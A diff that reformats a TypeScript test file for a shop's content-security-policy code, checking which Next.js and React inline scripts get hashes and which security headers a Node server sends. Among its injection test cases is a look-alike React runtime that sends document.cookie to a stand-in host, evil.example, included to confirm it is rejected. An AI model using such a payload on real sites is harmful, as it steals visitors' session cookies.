@@ -12,11 +12,13 @@ import {
   secureResponse,
 } from "@/server/security.mjs";
 
-const sha = (text: string) => `sha256-${createHash("sha256").update(text, "utf8").digest("base64")}`;
+const sha = (text: string) =>
+  `sha256-${createHash("sha256").update(text, "utf8").digest("base64")}`;
 const isTrusted = createScriptCheck();
 
 // Inline scripts as Next and React write them into the shop's pages.
-const rscChunk = 'self.__next_f.push([1,"1:\\"$Sreact.fragment\\"\\n2:I[\\"/_next/static/chunks/a.js\\"]\\u003c/script\\u003e"])';
+const rscChunk =
+  'self.__next_f.push([1,"1:\\"$Sreact.fragment\\"\\n2:I[\\"/_next/static/chunks/a.js\\"]\\u003c/script\\u003e"])';
 const rscStart = "(self.__next_f=self.__next_f||[]).push([0])";
 const turbopackChunks =
   '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/a.js"],"runtimeModuleIds":[94553]});';
@@ -51,7 +53,10 @@ describe("which inline scripts get a hash", () => {
     ["code after an RSC chunk", 'self.__next_f.push([1,"x"]);alert(1)'],
     ["code inside the push", "self.__next_f.push([1,alert(1)])"],
     ["code after the bundler's list", `${turbopackChunks}alert(1)`],
-    ["a look-alike React runtime", "$RC=function(a,b){fetch('//evil.example/'+document.cookie)};$RC(\"B:0\",\"S:0\")"],
+    [
+      "a look-alike React runtime",
+      '$RC=function(a,b){fetch(\'//evil.example/\'+document.cookie)};$RC("B:0","S:0")',
+    ],
     ["code after React's runtime", `${completeBoundary}alert(1)`],
     ["code after a boundary call", '$RC("B:1","S:1");alert(1)'],
     ["a call with code for an argument", '$RC("B:1",alert(1))'],
@@ -71,7 +76,9 @@ describe("which inline scripts get a hash", () => {
       "<script>alert(1)</script>",
       "</body></html>",
     ].join("");
-    expect(inlineScriptHashes(html, isTrusted).sort()).toEqual([sha(turbopackChunks), sha(rscStart), sha(rscChunk)].sort());
+    expect(inlineScriptHashes(html, isTrusted).sort()).toEqual(
+      [sha(turbopackChunks), sha(rscStart), sha(rscChunk)].sort(),
+    );
   });
 });
 
@@ -104,7 +111,12 @@ describe("secureResponse on a Node server", () => {
 
   beforeAll(async () => {
     server = http.createServer((req, res) => {
-      secureResponse(req, res, { headers: baseHeaders({ hsts: false }), isTrusted, dev: false, https: false });
+      secureResponse(req, res, {
+        headers: baseHeaders({ hsts: false }),
+        isTrusted,
+        dev: false,
+        https: false,
+      });
       if (req.url === "/json") {
         res.setHeader("Content-Type", "application/json");
         res.end("{}");
@@ -114,7 +126,10 @@ describe("secureResponse on a Node server", () => {
       } else {
         // Streamed in pieces, compressed when asked, as Next answers.
         const gzip = req.url === "/gzip";
-        res.writeHead(200, { "Content-Type": "text/html; charset=utf-8", ...(gzip ? { "Content-Encoding": "gzip" } : {}) });
+        res.writeHead(200, {
+          "Content-Type": "text/html; charset=utf-8",
+          ...(gzip ? { "Content-Encoding": "gzip" } : {}),
+        });
         const body = gzip ? zlib.gzipSync(page) : Buffer.from(page);
         const middle = body.length >> 1;
         res.write(body.subarray(0, middle));
@@ -126,15 +141,18 @@ describe("secureResponse on a Node server", () => {
   });
   afterAll(() => new Promise((resolve) => server.close(resolve)));
 
-  it.each(["/plain", "/gzip"])("sends %s whole with a policy naming its trusted script", async (path) => {
-    const response = await fetch(base + path);
-    expect(await response.text()).toBe(page);
-    const policy = response.headers.get("content-security-policy")!;
-    expect(policy).toContain(`script-src 'self' '${sha(rscChunk)}';`);
-    expect(policy).not.toContain(sha("alert(1)"));
-    expect(response.headers.get("x-frame-options")).toBe("DENY");
-    expect(response.headers.get("x-content-type-options")).toBe("nosniff");
-  });
+  it.each(["/plain", "/gzip"])(
+    "sends %s whole with a policy naming its trusted script",
+    async (path) => {
+      const response = await fetch(base + path);
+      expect(await response.text()).toBe(page);
+      const policy = response.headers.get("content-security-policy")!;
+      expect(policy).toContain(`script-src 'self' '${sha(rscChunk)}';`);
+      expect(policy).not.toContain(sha("alert(1)"));
+      expect(response.headers.get("x-frame-options")).toBe("DENY");
+      expect(response.headers.get("x-content-type-options")).toBe("nosniff");
+    },
+  );
 
   it("gives other answers the strict policy, and a 304 none (the stored page keeps its own)", async () => {
     const json = await fetch(`${base}/json`);
